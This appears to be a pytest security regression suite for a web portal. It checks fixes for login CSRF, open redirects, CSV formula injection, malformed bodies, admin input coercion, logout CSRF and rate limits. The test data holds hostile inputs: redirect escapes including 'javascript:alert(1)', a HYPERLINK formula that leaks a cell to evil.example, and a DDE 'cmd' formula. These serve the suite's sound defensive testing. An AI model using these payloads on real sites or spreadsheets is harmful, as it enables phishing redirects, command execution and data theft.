"""The security findings of issue 17, each replayed from outside against the portal
(docs/SECURITY.md names the finding each test proves). The ones that need a real server
process (header limits, X-Forwarded-For) are in test_security_server.py, GitLab's in
test_gitlab_signin.py."""

from __future__ import annotations

import csv
import io
from typing import Any

import asyncpg
import httpx
import pytest

from portal.app import create_app
from portal.routes.admin import _cell
from rcc.config import load_settings
from tests.conftest import portal_client
from tests.portal_helpers import IMAGE_JOB, PASSWORD, bearer, grant, sign_up

# --- 1. login CSRF: JSON bodies only, and no sign-in from another origin ---------------


@pytest.mark.parametrize("path", ["/auth/login", "/auth/register"])
@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", None])
async def test_sign_in_bodies_must_be_json(
    client: httpx.AsyncClient, owner: asyncpg.Connection, path: str, content_type: str | None
) -> None:
    body = b'{"email": "victim-signs-in-as@attacker.example", "password": "correct horse battery"}'
    headers = {"content-type": content_type} if content_type else {}
    answer = await client.post(path, content=body, headers=headers)
    assert answer.status_code == 415, answer.text
    assert answer.json()["error"] == "unsupported_media_type"
    assert "rcc_session" not in answer.cookies
    assert await owner.fetchval("SELECT count(*) FROM sessions") == 0
    assert await owner.fetchval("SELECT count(*) FROM user_emails") == 0


async def test_every_json_endpoint_refuses_other_content_types(
    client: httpx.AsyncClient, pool: asyncpg.Pool
) -> None:
    admin = await bearer(pool, "admin")
    member = await sign_up(client)
    for method, path, who in [
        ("POST", "/jobs", member.headers),
        ("POST", "/checkout/topup", member.headers),
        ("PATCH", f"/admin/users/{member.user_id}", admin),
        ("POST", "/admin/models/install", admin),
    ]:
        answer = await client.request(
            method, path, content=b'{"x": 1}', headers={**who, "content-type": "text/plain"}
        )
        assert answer.status_code == 415, (path, answer.text)
    # JSON with a charset, and the +json suffix, are JSON.
    fine = await client.post(
        "/jobs",
        json=IMAGE_JOB,
        headers={**member.headers, "content-type": "application/json; charset=utf-8"},
    )
    assert fine.status_code == 402, fine.text  # decoded and decided: no credits


async def test_sign_in_from_another_origin_is_refused(
    client: httpx.AsyncClient, owner: asyncpg.Connection
) -> None:
    member = await sign_up(client)
    client.cookies.clear()
    credentials = {"email": member.email, "password": PASSWORD}
    for path, body in [
        ("/auth/login", credentials),
        ("/auth/register", {"email": "new@example.com", "password": PASSWORD}),
    ]:
        for origin in ["https://attacker.example", "null", "http://127.0.0.1:8001"]:
            answer = await client.post(path, json=body, headers={"origin": origin})
            assert answer.status_code == 403, (path, origin, answer.text)
            assert answer.json()["error"] == "cross_origin"
            assert "rcc_session" not in answer.cookies
    assert await owner.fetchval("SELECT count(*) FROM user_emails") == 1  # only the member
    ours = await client.post(
        "/auth/login", json=credentials, headers={"origin": "http://127.0.0.1:8000"}
    )
    assert ours.status_code == 200, ours.text


# --- 3. open redirect after sign-in -----------------------------------------------------

ESCAPES = [
    "/\t/evil.example/x",
    "/\n/evil.example/x",
    "/\r/evil.example/x",
    "\t//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example/x",
    "//evil.example/x",
    "///evil.example/x",
    "https://evil.example/x",
    "javascript:alert(1)",
    "/ /evil.example",
]


async def test_next_never_leaves_the_site(portal_app: Any) -> None:
    async with portal_client(portal_app) as visitor:
        for target in ESCAPES:
            page = await visitor.get("/app/signin", params={"next": target})
            assert page.status_code == 200
            assert 'data-next="/app/run"' in page.text, repr(target)
        # The raw query of the report, percent-encoded as a link would carry it.
        page = await visitor.get("/app/signin?next=/%09/evil.example/x")
        assert 'data-next="/app/run"' in page.text
        kept = await visitor.get("/app/signin", params={"next": "/app/jobs?status=failed"})
        assert 'data-next="/app/jobs?status=failed"' in kept.text
    async with portal_client(portal_app) as member_browser:
        await sign_up(member_browser)
        for target in ESCAPES:  # a signed-in visitor is redirected at once
            answer = await member_browser.get("/app/signin", params={"next": target})
            assert answer.status_code == 303
            assert answer.headers["location"] == "/app/run", repr(target)


# --- 4. CSV formula injection -----------------------------------------------------------


async def test_logs_csv_neutralises_formulas(client: httpx.AsyncClient, pool: asyncpg.Pool) -> None:
    hostile = [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tx=1",
        "\rx=1",
    ]
    for email in hostile:  # anonymous failed sign-ins put these in the log
        answer = await client.post("/auth/login", json={"email": email, "password": "x"})
        assert answer.status_code == 401
    admin = await bearer(pool, "admin")
    exported = await client.get("/admin/logs.csv", headers=admin)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    actors = sorted(row["actor"] for row in rows)
    assert '\'=hyperlink("https://evil.example/?"&a1,"click")' in actors  # shown, inert
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Sign-in strips the email's edges; a tab or CR that starts any other cell counts too.
    assert [_cell(v) for v in ("\tx", "\rx", "a=b", "")] == ["'\tx", "'\rx", "a=b", ""]


# --- 7. bodies that used to be 500s -----------------------------------------------------


async def test_invalid_utf8_and_deep_nesting_are_400(
    client: httpx.AsyncClient, pool: asyncpg.Pool
) -> None:
    json_headers = {"content-type": "application/json"}
    login = await client.post(
        "/auth/login", content=b'{"email": "\xff", "password": "x"}', headers=json_headers
    )
    assert login.status_code == 400, login.text
    assert login.json()["error"] == "invalid_request" and "UTF-8" in login.json()["detail"]

    member = await sign_up(client)
    await grant(pool, member.user_id, 50)
    admin = {**await bearer(pool, "admin"), **json_headers}
    patch = await client.patch(
        f"/admin/users/{member.user_id}",
        content=b'{"rcc_delta": 5, "reason": "\xff"}',
        headers=admin,
    )
    assert patch.status_code == 400, patch.text

    deep = b'{"type": "IMAGE_TASK", "workflow": {"1": {"class_type": "X", "inputs": {"a": '
    deep += b"[" * 10_000 + b"]" * 10_000 + b"}}}}"
    job = await client.post("/jobs", content=deep, headers={**member.headers, **json_headers})
    assert job.status_code == 400, job.text
    assert "nested" in job.json()["detail"]
    assert (await client.get("/me")).json()["balance_rcc"] == 50  # nothing was reserved


# --- 8. admin PATCH is strict -----------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"rcc_delta": "5", "reason": "gift"}, "rcc_delta"),
        ({"is_admin": "true"}, "is_admin"),
        ({"is_admin": 1}, "is_admin"),
        ({"rcc_delta": 5.0, "reason": "gift"}, "rcc_delta"),
    ],
)
async def test_admin_patch_does_not_coerce(
    client: httpx.AsyncClient, pool: asyncpg.Pool, body: dict[str, Any], field: str
) -> None:
    member = await sign_up(client)
    admin = await bearer(pool, "admin")
    answer = await client.patch(f"/admin/users/{member.user_id}", json=body, headers=admin)
    assert answer.status_code == 400, answer.text
    problem = answer.json()
    assert problem["error"] == "invalid_request"
    assert problem["detail"].startswith(f"{field}:")
    assert [f["key"] for f in problem["fields"]] == [field]
    me = (await client.get("/me")).json()
    assert me["balance_rcc"] == 0 and me["is_admin"] is False


# --- 9. logout needs the CSRF header -------------------------------------------------


async def test_logout_of_a_cookie_session_needs_its_csrf_header(
    client: httpx.AsyncClient,
) -> None:
    member = await sign_up(client)
    forged = await client.post("/auth/logout")  # what another site's form could send
    assert forged.status_code == 403 and forged.json()["error"] == "csrf_failed"
    assert (await client.get("/me")).status_code == 200, "still signed in"
    done = await client.post("/auth/logout", headers=member.headers)
    assert done.status_code == 204
    assert (await client.get("/me")).status_code == 401
    again = await client.post("/auth/logout")  # no session any more: harmless
    assert again.status_code == 204


# --- 11. /metrics and registration ------------------------------------------------------


async def test_metrics_need_an_admin_or_service_token(
    client: httpx.AsyncClient, pool: asyncpg.Pool
) -> None:
    assert (await client.get("/metrics")).status_code == 401
    member = await sign_up(client)
    assert (await client.get("/metrics")).status_code == 403  # a user's session
    user_token = await bearer(pool, "user", member.user_id)
    client.cookies.clear()
    assert (await client.get("/metrics", headers=user_token)).status_code == 403
    for role in ("admin", "service"):
        answer = await client.get("/metrics", headers=await bearer(pool, role))
        assert answer.status_code == 200 and "rcc_requests_total" in answer.text


async def test_registration_is_limited_per_hour(
    settings: Any, pool: asyncpg.Pool, tmp_path: Any, db_url: str
) -> None:
    limited = load_settings(
        {
            "DATABASE_URL": db_url,
            "RCC_DATA_DIR": str(tmp_path / "data"),
            "RCC_SESSION_SECRET": "test-session-secret",
            "RCC_RATE_REGISTER_PER_MIN": "100",
            "RCC_RATE_REGISTER_PER_HOUR": "3",
        }
    )
    app = create_app(limited, pool=pool)
    async with portal_client(app, ip="192.0.2.7") as prober:
        await sign_up(prober, "taken@example.com")
        answers = [
            await prober.post(
                "/auth/register", json={"email": "taken@example.com", "password": PASSWORD}
            )
            for _ in range(3)
        ]
    assert [a.status_code for a in answers] == [409, 409, 429]
    assert int(answers[-1].headers["retry-after"]) > 60  # the hour's window, not a minute's
    async with portal_client(app, ip="192.0.2.8") as other:
        await sign_up(other)  # another address is not held back
